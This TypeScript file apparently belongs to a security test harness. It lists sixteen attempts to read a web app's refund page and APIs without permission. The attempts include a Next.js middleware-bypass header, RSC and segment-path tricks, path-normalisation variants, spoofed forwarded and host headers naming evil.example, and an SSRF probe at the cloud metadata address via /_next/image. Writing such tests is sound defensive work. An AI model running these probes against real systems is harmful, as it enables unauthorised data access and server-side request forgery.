import { raw } from './raw-request.ts';
import { type Answer, ask, type World } from './world.ts';

export type Attempt = {
  name: string;
  play(world: World): Promise<Answer[]>;
  /** Whether a reviewer may do this, however unusual the request is. */
  isLegalForReviewer?: boolean;
};

const page = ({ target }: World) => `/refunds/${target.orderId}`;
const all = (...answers: Promise<Answer>[]) => Promise.all(answers);
const apis = (world: World) => [
  '/api/summary',
  '/api/recommendations?include_zero=true&limit=200',
  `/api/orders/${world.target.orderId}/events`,
  `/api/orders/${world.target.orderId}/decisions`,
  '/api/decisions',
  '/api/decisions/export',
  '/api/stream?once',
];

const subrequests = [
  'proxy',
  'src/proxy',
  'middleware',
  'middleware:middleware:middleware:middleware:middleware',
  'src/middleware:src/middleware:src/middleware:src/middleware:src/middleware',
];

/** Attacks that read data without permission; 1 to 16 of the list. */
export const readAttempts: Attempt[] = [
  {
    name: '1 the page and every API',
    play: (w) => all(...[page(w), ...apis(w).slice(0, 6)].map((path) => ask(w, path))),
  },
  { name: '2 ?_rsc=', play: (w) => all(ask(w, `${page(w)}?_rsc=1a2b3`), ask(w, '/refunds?_rsc=x')) },
  { name: '3 RSC: 1', play: (w) => all(ask(w, page(w), { headers: { rsc: '1' } })) },
  {
    name: '4 prefetch',
    play: (w) =>
      all(
        ask(w, page(w), { headers: { rsc: '1', 'next-router-prefetch': '1' } }),
        ask(w, page(w), {
          headers: { rsc: '1', 'next-router-prefetch': '1', 'next-router-segment-prefetch': '/_tree' },
        }),
      ),
  },
  { name: '5 .rsc', play: (w) => all(ask(w, `${page(w)}.rsc`), ask(w, '/refunds.rsc')) },
  {
    name: '6 segments',
    play: (w) =>
      all(
        ask(w, `${page(w)}.segments/_tree.segment.rsc`),
        ask(w, `${page(w)}.segments/!KGNvbnNvbGUp/refunds.segment.rsc`),
      ),
  },
  { name: '7 /index.rsc', play: (w) => all(ask(w, '/index.rsc'), ask(w, `${page(w)}/index.rsc`)) },
  {
    name: '8 x-middleware-subrequest',
    play: (w) =>
      all(
        ...subrequests.map((value) =>
          ask(w, page(w), { headers: { 'x-middleware-subrequest': value, 'x-middleware-rewrite': page(w) } }),
        ),
      ),
  },
  {
    name: '9 other spellings of the path',
    play: (w) =>
      all(
        ...[
          `/${page(w)}`,
          `/./refunds/${w.target.orderId}`,
          `/x/..${page(w)}`,
          `/%2e/refunds/${w.target.orderId}`,
          `/refunds%2f${w.target.orderId}`,
          `${page(w)}/`,
          `${page(w)}.`,
          page(w).toUpperCase(),
          '/api//summary',
          '/API/summary',
          '/api/./summary',
          '/api/summary/',
          '/api/%73ummary',
        ].map((path) => raw(w, `GET ${path} HTTP/1.1`)),
      ),
  },
  {
    name: '10 route parameters as a query',
    play: (w) =>
      all(
        ask(w, `/sign-in?nxtPorderId=${w.target.orderId}`),
        ask(w, `/refunds?nxtPorderId=${w.target.orderId}&nxtIorderId=x`),
        ask(w, `/healthz?nxtPorderId=${w.target.orderId}`),
      ),
  },
  { name: '11 /_next/data', play: (w) => all(ask(w, `/_next/data/x${page(w)}.json`)) },
  {
    name: '12 /_next/image',
    play: (w) =>
      all(
        ...['/api/summary', page(w), 'http://127.0.0.1/', 'http://169.254.169.254/'].map((url) =>
          ask(w, `/_next/image?url=${encodeURIComponent(url)}&w=640&q=75`),
        ),
      ),
  },
  {
    name: '13 forwarded headers',
    play: (w) =>
      all(
        ask(w, page(w), { headers: { 'x-forwarded-host': 'evil.example', 'x-forwarded-proto': 'https' } }),
        ask(w, page(w), { headers: { 'x-original-url': '/sign-in', 'x-rewrite-url': page(w) } }),
        ask(w, '/sign-in', { headers: { 'x-rewrite-url': page(w), 'x-invoke-path': page(w) } }),
      ),
  },
  {
    name: '14 an absolute address',
    play: (w) =>
      all(
        raw(w, `GET http://evil.example${page(w)} HTTP/1.1`),
        raw(w, `GET ${w.system.url}/api/summary HTTP/1.1`),
      ),
  },
  {
    name: '15 other methods',
    play: (w) =>
      all(
        ...['HEAD', 'OPTIONS', 'TRACE', 'PROPFIND', 'PUT', 'DELETE'].map((method) =>
          raw(w, `${method} /api/recommendations?include_zero=true HTTP/1.1`),
        ),
        ask(w, '/api/summary', { headers: { 'x-http-method-override': 'OPTIONS' } }),
      ),
  },
  {
    name: '16 two hosts',
    play: (w) => all(raw(w, `GET ${page(w)} HTTP/1.1`, 'host: evil.example')),
  },
];
